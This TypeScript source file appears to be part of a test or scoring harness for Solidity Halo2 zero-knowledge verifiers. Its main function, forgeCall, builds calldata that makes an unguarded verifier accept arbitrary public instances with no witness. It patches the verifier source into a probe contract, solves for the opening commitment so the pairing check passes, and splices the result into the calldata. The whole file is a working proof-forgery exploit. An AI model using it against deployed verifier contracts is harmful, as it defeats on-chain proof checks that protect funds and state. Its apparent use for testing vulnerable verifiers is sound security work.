import { AbiCoder, concat, dataLength, dataSlice, toBeHex } from "ethers";

import { verifyCallWithLayout, R } from "./calldata.ts";
import { rawCall } from "./call.ts";
import { compileSolidity } from "./compile.ts";
import { deployCompiled, type Connection } from "./scorer.ts";

export const EC_MUL = "0x0000000000000000000000000000000000000007";
const W_TERM =
  /mstore\(0x80, calldataload\((0x[0-9a-f]+)\)\)\s+mstore\(0xa0, calldataload\(0x[0-9a-f]+\)\)\s+success := ec_mul_tmp\(success, sub\(R, mload\((0x[0-9a-f]+)\)\)\)/;
const PAIRING = "success := ec_pairing(";

/**
 * Forges an accepting call of the unguarded verifier for instances of one's own, without any witness.
 *
 * `proof.offset` points at a decoy that only fixes the challenges. What is checked lies at the addresses that the source reads literally, and may be
 * chosen afterwards: all zero, but for the one opening commitment W, which is solved for so that the pairing's left side is the point at infinity. A
 * variant of the source that returns that left side (with W = 0) and W's factor z gives W = left / z.
 *
 * @param decoy any proof-shaped bytes whose points lie on the curve
 */
export async function forgeCall(
  connection: Connection,
  engineSource: string,
  decoy: string,
  instances: readonly bigint[],
): Promise<string> {
  const [term, wAddress, factor] = W_TERM.exec(engineSource) ?? [];
  if (term === undefined) throw new Error("the opening commitment was not found in the source");
  const probeSource = engineSource.replace(
    PAIRING,
    `mstore(0x00, mload(PAIRING_LHS_X_MPTR)) mstore(0x20, mload(PAIRING_LHS_Y_MPTR)) mstore(0x40, mload(${factor})) return(0x00, 0x60)\n${PAIRING}`,
  );
  const probe = await deployCompiled(connection, compileSolidity(probeSource, "Halo2Verifier"));

  const length = dataLength(decoy);
  const zeros = toBeHex(0, length);
  const call = (fixed: string) =>
    verifyCallWithLayout(decoy, instances, {
      before: concat([toBeHex(length, 32), fixed]),
      instancesFirst: true,
    });

  const probed = await rawCall(connection, probe, call(zeros));
  const [x, y, z] = AbiCoder.defaultAbiCoder().decode(
    ["uint256", "uint256", "uint256"],
    probed.data,
  ) as unknown as bigint[];
  const left = await rawCall(
    connection,
    EC_MUL,
    concat([x!, y!, inverse(z!)].map((value) => toBeHex(value, 32))),
  );
  const at = Number(wAddress) - 0x64;
  return call(concat([dataSlice(zeros, 0, at), left.data, dataSlice(zeros, at + 0x40)]));
}

/** value^(R-2) mod R */
export function inverse(value: bigint): bigint {
  let [result, base] = [1n, value % R];
  for (let exponent = R - 2n; exponent > 0n; exponent >>= 1n) {
    if (exponent & 1n) result = (result * base) % R;
    base = (base * base) % R;
  }
  return result;
}
